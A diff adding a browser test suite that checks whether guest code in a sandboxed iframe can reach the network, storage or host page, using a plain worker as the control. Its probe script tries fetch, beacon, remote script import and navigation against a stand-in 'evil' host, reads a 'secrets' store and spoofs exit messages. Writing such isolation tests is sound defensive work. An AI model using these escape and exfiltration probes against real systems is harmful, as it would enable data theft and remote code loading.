@@ -1,0 +1,173 @@
+/** What guest code can reach: the same probes in the sandbox's frame and, as a control, in a plain worker of the page. */
+import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
+import { drain } from '../../src/lib/stream';
+import { sandboxes } from '../../src/sandboxes';
+import type { Sandbox } from '../../src/types';
+
+const evil = inject('evil');
+const own = location.origin;
+
+/** Runs in a worker: tries everything, tells what worked. */
+const probes = `
+const evil = ${JSON.stringify(evil)}, own = ${JSON.stringify(own)};
+const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+const event = (target, good, bad) => new Promise((resolve, reject) => { target['on' + good] = () => resolve(true); target['on' + bad] = () => reject(new Error(bad)); setTimeout(() => reject(new Error('silence')), 1500); });
+const G = globalThis;
+const tries = {
+  fetchOther: async () => (await G.fetch(evil + '/fetch')).ok,
+  fetchOwn: async () => (await G.fetch(own + '/sandbox.html')).ok,
+  xhr: () => { const x = new G.XMLHttpRequest(); x.open('GET', evil + '/xhr', false); x.send(); return x.status === 200; },
+  webSocket: async () => { const s = new G.WebSocket(evil.replace('http', 'ws') + '/ws'); await event(s, 'open', 'error').catch(() => {}); await wait(200); return 'attempted'; },
+  eventSource: () => event(new G.EventSource(evil + '/event'), 'open', 'error'),
+  importScripts: () => { G.importScripts(evil + '/scripts'); return true; },
+  dynamicImport: async () => { await import(evil + '/import'); return true; },
+  dynamicImportData: async () => { await import('data:text/javascript,export default 1'); return 'harmless'; },
+  indexedDB: () => { const open = G.indexedDB.open('protege-probe'); return new Promise((resolve, reject) => { open.onsuccess = () => resolve([...open.result.objectStoreNames].includes('secrets')); open.onerror = () => reject(open.error); }); },
+  caches: async () => { await G.caches.keys(); return true; },
+  opfs: async () => { await G.navigator.storage.getDirectory(); return true; },
+  locks: async () => { await G.navigator.locks.query(); return 'own partition'; },
+  broadcast: async () => { new G.BroadcastChannel('protege-probe').postMessage('from ' + G.name); await wait(200); return 'sent'; },
+  nestedFetch: () => new Promise((resolve, reject) => { const w = new G.Worker(G.URL.createObjectURL(new G.Blob(["fetch('" + evil + "/nested').then(() => postMessage(true), () => postMessage(false))"]))); w.onmessage = ({ data }) => resolve(data); w.onerror = reject; setTimeout(() => reject(new Error('silence')), 1500); }),
+  sharedMemory: () => { new G.SharedArrayBuffer(8); return true; },
+  parent: () => Boolean(G.parent?.document || G.top?.location || G.opener),
+  document: () => Boolean(G.document),
+  localStorage: () => Boolean(G.localStorage),
+  rtc: () => { new G.RTCPeerConnection(); return true; },
+  navigate: () => { G.location.href = evil + '/navigate'; return 'set'; },
+  open: () => Boolean(G.open(evil + '/open')),
+  beacon: () => G.navigator.sendBeacon(evil + '/beacon'),
+};
+const probe = async () => {
+  const told = {};
+  for (const [name, attempt] of Object.entries(tries)) {
+    try { told[name] = await Promise.race([attempt(), wait(2500).then(() => 'silence')]); } catch (error) { told[name] = String(error && error.name || error); }
+  }
+  await wait(500);
+  return told;
+};
+`;
+
+type Told = Record<string, unknown>;
+const hits = async () => (await (await fetch(`${evil}/hits`)).json()) as string[];
+
+/** The real sandbox.html with the probes in place of the shell. */
+async function inFrame(): Promise<{ told: Told; frame: HTMLIFrameElement }> {
+  const frame = document.createElement('iframe');
+  frame.setAttribute('sandbox', 'allow-scripts');
+  frame.src = '/sandbox.html';
+  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
+  document.body.append(frame);
+  await loaded;
+  const control = new MessageChannel();
+  const calls = new MessageChannel();
+  frame.contentWindow?.postMessage(null, '*', [control.port2]);
+  const told = new Promise<Told>((resolve) => (calls.port1.onmessage = ({ data }) => resolve(data as Told)));
+  const shell = `${probes}; self.onmessage = async ({ data }) => data.port.postMessage(await probe());`;
+  control.port1.postMessage({ type: 'start', shell, exec: '' }, [calls.port2, new MessageChannel().port2]);
+  return { told: await told, frame };
+}
+
+const REACHED = [true];
+const reached = (told: Told) =>
+  Object.entries(told)
+    .filter(([, value]) => REACHED.includes(value as never))
+    .map(([name]) => name);
+
+describe('isolation', () => {
+  const heard: unknown[] = [];
+  const channel = new BroadcastChannel('protege-probe');
+  beforeAll(async () => {
+    channel.onmessage = ({ data }) => heard.push(data);
+    await new Promise<void>((resolve, reject) => {
+      const open = indexedDB.open('protege-probe', 1);
+      open.onupgradeneeded = () => open.result.createObjectStore('secrets');
+      open.onsuccess = () => (open.result.close(), resolve());
+      open.onerror = () => reject(open.error!);
+    });
+    await hits();
+  });
+  afterAll(() => {
+    channel.close();
+    indexedDB.deleteDatabase('protege-probe');
+  });
+
+  test('control: a plain worker of the page reaches nearly everything', async () => {
+    const worker = new Worker(URL.createObjectURL(new Blob([`${probes}; probe().then((told) => postMessage(told));`])));
+    const told = await new Promise<Told>((resolve) => (worker.onmessage = ({ data }) => resolve(data as Told)));
+    worker.terminate();
+    expect(reached(told)).toEqual(
+      expect.arrayContaining([
+        'fetchOther',
+        'fetchOwn',
+        'xhr',
+        'importScripts',
+        'dynamicImport',
+        'indexedDB',
+        'caches',
+        'opfs',
+        'nestedFetch',
+      ]),
+    );
+    expect(await hits()).toEqual(
+      expect.arrayContaining(['/fetch', '/xhr', '/ws', '/event', '/scripts', '/import', '/nested']),
+    );
+    expect(heard.splice(0)).toHaveLength(1);
+  });
+
+  test('a worker of the frame reaches nothing', async () => {
+    const { told, frame } = await inFrame();
+    frame.remove();
+    expect(reached(told)).toEqual([]);
+    expect(await hits()).toEqual([]);
+    expect(heard).toEqual([]);
+  });
+
+  test('the frame takes one port, and only from its parent', async () => {
+    const { frame } = await inFrame();
+    const second = new MessageChannel();
+    let answered = false;
+    second.port1.onmessage = () => (answered = true);
+    frame.contentWindow?.postMessage(null, '*', [second.port2]);
+    second.port1.postMessage({ type: 'ping' });
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    expect(answered).toBe(false);
+    expect(frame.contentDocument).toBeNull();
+    frame.remove();
+    await hits();
+  });
+
+  describe('guest code in the sandbox', () => {
+    let box: Sandbox;
+    beforeAll(async () => {
+      box = await (await sandboxes.embedded!.load()).create({});
+      await box.reset({ 'probe.js': `${probes}; probe().then((told) => console.log(JSON.stringify(told)));` });
+    });
+    afterAll(() => box.close());
+
+    test('reaches nothing', async () => {
+      const result = await drain(box.exec('node probe.js', { timeoutMs: 30_000 }));
+      expect(result.stdout, result.stderr).toContain('fetchOther');
+      expect(reached(JSON.parse(result.stdout.trim().split('\n').pop()!) as Told)).toEqual([]);
+      expect(await hits()).toEqual([]);
+      expect(heard).toEqual([]);
+    });
+
+    test('cannot speak to the page or the shell by itself', async () => {
+      const spoof = `const G = globalThis; for (const f of ['postMessage', 'close']) { try { G[f]({ type: 'exit', exitCode: 0, changes: { '/repo/x': 'spoofed' }, dropped: 0 }); } catch {} } setTimeout(() => { console.log('honest'); process.exit(3); }, 200);`;
+      await box.write('spoof.js', spoof);
+      const result = await drain(box.exec('node spoof.js', { timeoutMs: 5_000 }));
+      expect(result.exitCode).not.toBe(0);
+      expect(await box.read('x')).toBeUndefined();
+    });
+
+    test('a heap bomb or a dead frame leaves the page and its files alone', async () => {
+      for (const frame of document.querySelectorAll('iframe[title="Sandbox"]'))
+        (frame as HTMLIFrameElement).src = 'about:blank';
+      const started = performance.now();
+      await expect(drain(box.exec('sleep 60'))).rejects.toThrow(/died|ended/);
+      expect(performance.now() - started).toBeLessThan(15_000);
+      expect(Object.keys(await box.files())).toContain('probe.js');
+      expect((await drain(box.exec('ls spoof.js'))).stdout).toBe('spoof.js\n');
+    });
+  });
+});
